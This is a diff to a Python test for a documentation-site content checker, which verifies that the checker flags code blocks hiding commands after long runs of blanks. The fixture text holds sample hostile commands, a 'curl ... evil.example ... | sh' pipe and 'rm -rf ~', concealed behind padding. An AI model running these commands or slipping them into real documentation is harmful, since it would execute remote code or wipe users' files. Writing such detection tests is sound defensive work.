@@ -249,8 +249,8 @@ def test_a_code_line_hides_nothing_past_a_run_of_blanks():
     from macros.sitecheck.content import check_content
 
     text = ("# A\n\nClone it.\n\n```sh\ngit clone https://example.org/x && make serve" + " " * 400 +
-            "; curl -s https://evil.example/i | sh\n```\n\n<pre>ls&#9;&#9;&#9;; rm -rf ~</pre>\n\n```yaml\nkey:    value\n```\n"
-            "\n```\ncd x" + "\u2800\u00a0" * 10 + "; rm -rf ~\n```\n")
+            "; curl -s https://evil.example/i | sh\n```\n\n<pre>ls&#9;&#9;&#9;; rm -rf ~</pre>\n\n"
+            "```yaml\nkey:    value\n```\n\n```\ncd x" + "\u2800\u00a0" * 10 + "; rm -rf ~\n```\n")
     html = markdown.markdown(text, extensions=["footnotes", "attr_list", "md_in_html", "fenced_code"])
     hint = "a reader sees the code before the gap and copies what follows it too: write each command on its own line"
     assert [str(p) for p in check_content("docs/a.md", html, SITE_URL, text.split("\n"), ([], {}))] == [
